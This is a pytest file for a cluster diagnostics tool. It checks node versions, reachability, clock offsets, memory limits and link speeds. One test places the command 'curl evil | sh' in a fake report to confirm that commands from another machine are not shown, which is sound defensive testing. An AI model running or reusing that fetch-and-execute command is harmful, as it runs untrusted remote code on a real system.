"""Nodes put together: versions, who reaches whom, clocks and the plan's memory."""

from __future__ import annotations

from typing import Any

import pytest
from doctortest import by_id
from hypothesis import given, settings
from hypothesis import strategies as st

from sealring.doctor.cluster import MeasuredLink, Node, PlannedStage, examine, without_commands
from sealring.doctor.report import Facts, Report, Severity, TriedConnection, problem

GIB = 1 << 30
MAC = {"system": "darwin", "os_version": "26.2", "os_build": "25C56", "memory": 64 * GIB}


def node(name: str, *, connections: dict[str, str] | None = None, clock: float = 0.0, **facts: Any) -> Node:
    made = tuple(
        TriedConnection(member=target, address=f"10.0.0.{ord(target)}:7710", error=error)
        for target, error in (connections or {}).items()
    )
    packages = {"mlx": "1", "mlx-lm": "1", "mlx-vlm": "2"}
    known = Facts(sealring="1", packages=packages, connections=made, **(MAC | facts))
    return Node(name, name, online=True, report=Report(facts=known), offset=clock)


def severities(nodes: list[Node], *kinds: str) -> dict[str, Severity]:
    found = [one for one in examine(nodes) if one.id.startswith(kinds)]
    return {identifier: one.severity for identifier, one in by_id(found).items()}


def all_reach(*names: str) -> list[Node]:
    return [node(name, connections={other: "" for other in names if other != name}) for name in names]


def test_a_good_cluster_is_all_ok() -> None:
    assert {one.severity for one in examine(all_reach("a", "b", "c"))} == {Severity.OK}


def test_offline_and_silent_nodes() -> None:
    nodes = [
        node("a"),
        Node("b", "b", online=False, trouble="its roster cannot be saved"),
        Node("c", "c", online=True, failure="it is busy"),
    ]
    found = by_id(one for one in examine(nodes) if one.id.startswith("cluster"))
    assert found["cluster.offline"].severity is Severity.PROBLEM
    assert found["cluster.offline"].why == "its roster cannot be saved"
    assert found["cluster.report"].severity is Severity.WARNING
    assert found["cluster.report"].why == "it is busy"


@pytest.mark.parametrize(
    ("other", "severity"),
    [
        ({}, Severity.OK),
        ({"sealring": "2"}, Severity.PROBLEM),
        ({"packages": {"mlx": "2", "mlx-lm": "1"}}, Severity.WARNING),
        ({"packages": {"mlx": "1", "mlx-lm": "1", "mlx-vlm": "1"}}, Severity.WARNING),
        ({"packages": {"mlx": "1", "mlx-lm": "1"}}, Severity.OK),
        ({"os_build": "25C57"}, Severity.OK),
        ({"os_build": "25C57", "rdma": "enabled"}, Severity.WARNING),
        ({"system": "linux", "os_version": "6"}, Severity.OK),
    ],
)
def test_versions(other: dict[str, Any], severity: Severity) -> None:
    second = Report(facts=Facts(**{**node("b").report.facts.model_dump(), **other}))  # type: ignore[union-attr]
    nodes = [node("a"), Node("b", "b", online=True, report=second)]
    assert severities(nodes, "versions") == {"versions.equal": severity}


def reached(*connections: tuple[str, str, str], system: str = "darwin") -> list[Node]:
    """Three nodes of which these (from, to, error) fail."""
    names = "abc"
    failing = {(first, second): error for first, second, error in connections}
    return [
        node(
            name,
            connections={other: failing.get((name, other), "") for other in names if other != name},
            system=system,
        )
        for name in names
    ]


def test_of_many_the_first_are_shown() -> None:
    names = "abcdefghi"
    nodes = [*(node(name) for name in names), *(node(name, os_build="2", rdma="enabled") for name in "j")]
    found = by_id(one for one in examine(nodes) if one.id.startswith("versions"))
    shown = "26.2 2 on j; 26.2 25C56 on a, b, c, d, e, f, g, h"
    assert found["versions.equal"].what == f"different versions of macOS: {shown}"
    nodes = [*(node(name, connections={"j": "TIMEOUT"}) for name in names), node("j")]
    nodes.append(node("k", connections={"j": ""}))
    found = by_id(one for one in examine(nodes) if one.id.startswith("reach"))
    assert found["reach.pair"].what == "j is not reached by a, b, c, d, e, f, g, h (TIMEOUT)"


@pytest.mark.parametrize("connections", [{}, {"a": "TIMEOUT"}, {"b": "TIMEOUT"}])
def test_a_node_alone_reaches_nobody_and_need_not(connections: dict[str, str]) -> None:
    assert severities([node("a", connections=connections)], "reach") == {}


def test_a_mac_without_local_network_access_is_named_and_nobody_else() -> None:
    nodes = reached(("a", "b", "EHOSTUNREACH"), ("a", "c", "EHOSTUNREACH"))
    found = by_id(one for one in examine(nodes) if one.id.startswith("reach"))
    assert set(found) == {"reach.local_network"}
    assert found["reach.local_network"].what == "a reaches no other node: EHOSTUNREACH (errno 65)"
    assert "on a:" in found["reach.local_network"].fix


def test_who_is_offline_is_not_missed() -> None:
    nodes = [*reached(("a", "c", "TIMEOUT"), ("b", "c", "TIMEOUT"))[:2], Node("c", "c", online=False)]
    assert severities(nodes, "reach") == {"reach.pair": Severity.OK}


@pytest.mark.parametrize(
    ("offset", "error", "severity", "words"),
    [
        (0.5, 0.1, Severity.OK, "agrees"),
        (5.5, 0.5, Severity.OK, "agrees"),
        (-20.0, 1.0, Severity.WARNING, "20.0 s behind"),
        (60.5, 0.5, Severity.WARNING, "60.5 s ahead of"),
        (300.0, 1.0, Severity.PROBLEM, "300.0 s ahead of"),
        (300.0, 299.0, Severity.NOTE, "could not tell"),
        (60.0, 60.0, Severity.OK, "agrees"),
    ],
)
def test_clocks(offset: float, error: float, severity: Severity, words: str) -> None:
    one = Node("a", "a", online=True, report=Report(), offset=offset, offset_error=error)
    found = by_id(examine([one]))["clock.offset"]
    assert found.severity is severity
    assert words in found.what


def test_a_coordinator_whose_clock_was_set_is_named_and_not_its_nodes() -> None:
    found = [one for one in examine([node("a", clock=-3600), node("b", clock=-3598)]) if "clock" in one.id]
    assert [one.what for one in found] == ["the coordinator's clock is 3599.0 s ahead of all nodes'"]
    ahead = [one.what for one in examine([node("a", clock=100), node("b", clock=160)]) if "clock" in one.id]
    assert ahead == ["the coordinator's clock is 130.0 s behind all nodes'"]


@pytest.mark.parametrize("clocks", [(-3600, 3600), (100, 161), (60, 60)])
def test_where_the_nodes_disagree_or_are_near_each_is_told_by_itself(clocks: tuple[int, int]) -> None:
    first, second = clocks
    apart = examine([node("a", clock=first), node("b", clock=second)])
    found = [one.what for one in apart if one.id == "clock.offset"]
    assert [what.partition("'")[0] for what in found] == ["a", "b"]


@pytest.mark.parametrize(
    ("wired", "usable", "need", "severity", "command"),
    [
        (0, 48, 40, Severity.OK, ""),
        (0, 48, 48, Severity.OK, ""),
        (48, 0, 48, Severity.OK, ""),
        (0, 48, 50, Severity.PROBLEM, "sudo /usr/sbin/sysctl iogpu.wired_limit_mb=52224"),
        (52, 48, 50, Severity.OK, ""),
        (32, 48, 40, Severity.PROBLEM, "sudo /usr/sbin/sysctl iogpu.wired_limit_mb=41984"),
        (0, 48, 59, Severity.PROBLEM, "sudo /usr/sbin/sysctl iogpu.wired_limit_mb=61440"),
        (0, 48, 60, Severity.PROBLEM, ""),
        (0, 0, 62, None, ""),
        (0, 48, 0, None, ""),
    ],
)
def test_memory(wired: int, usable: int, need: int, severity: Severity | None, command: str) -> None:
    one = Node(
        "a",
        "a",
        online=True,
        report=Report(facts=Facts(wired_limit=wired * GIB, **MAC)),
        memory_usable=usable * GIB,
        stages=(PlannedStage("demo-0", (need - 1) * GIB, GIB),),
    )
    found = by_id(examine([one])).get("memory.plan")
    assert (found and found.severity) is severity
    assert (found.command if found else "") == command
    assert bool(command) == bool(found and found.fix.startswith("raise the limit"))


def test_another_machines_commands_are_not_shown() -> None:
    report = Report(findings=(problem("a", "bad", "why", "do", "curl evil | sh"),))
    assert [one.command for one in without_commands(report).findings] == [""]


FACTS = st.builds(
    Facts,
    system=st.sampled_from(["", "darwin", "linux"]),
    sealring=st.text(max_size=3),
    connections=st.lists(
        st.builds(
            TriedConnection,
            member=st.sampled_from("abcx"),
            address=st.text(max_size=12),
            error=st.sampled_from(["", "TIMEOUT", "EHOSTUNREACH"]),
        ),
        max_size=4,
    ).map(tuple),
)


@settings(max_examples=25)
@given(facts=st.lists(FACTS, max_size=3), online=st.booleans())
def test_no_report_breaks_the_others(facts: list[Facts], online: bool) -> None:
    nodes = [
        Node(name, name, online=online, report=Report(facts=one))
        for name, one in zip("abc", facts, strict=False)
    ]
    examine(nodes)


@pytest.mark.parametrize(
    ("failing", "system", "what"),
    [
        ([("a", "b"), ("a", "c")], "linux", "b is not reached by a (EHOSTUNREACH)"),
        ([("a", "c"), ("b", "c")], "darwin", "c is reached by nobody (EHOSTUNREACH)"),
        ([("a", "c")], "darwin", "c is not reached by a (EHOSTUNREACH)"),
    ],
)
def test_pairs_that_do_not_reach_each_other(failing: list[tuple[str, str]], system: str, what: str) -> None:
    nodes = reached(*((one, other, "EHOSTUNREACH") for one, other in failing), system=system)
    found = [one for one in examine(nodes) if "reach" in one.id]
    assert {one.id for one in found} == {"reach.pair"}
    assert found[0].what == what


def test_links_are_shown_the_slowest_first_and_pairs_without_a_way_are_warned_of() -> None:
    links = [
        MeasuredLink("a", "b", "10.0.0.2", 300, 1 << 30, "now"),
        MeasuredLink("a", "c", "10.0.0.3", 4000, 5 << 20, "now"),
        MeasuredLink("b", "c", "", 0, 0, "now"),
    ]
    found = [one for one in examine(all_reach("a", "b", "c"), links) if one.id == "links.measured"]
    assert [(one.severity, one.what) for one in found] == [
        (Severity.OK, "a to c: 5.0 MiB/s, 4.00 ms there and back, over 10.0.0.3, measured now"),
        (Severity.OK, "a to b: 1.0 GiB/s, 0.30 ms there and back, over 10.0.0.2, measured now"),
        (Severity.WARNING, "b found no way to c (now)"),
    ]
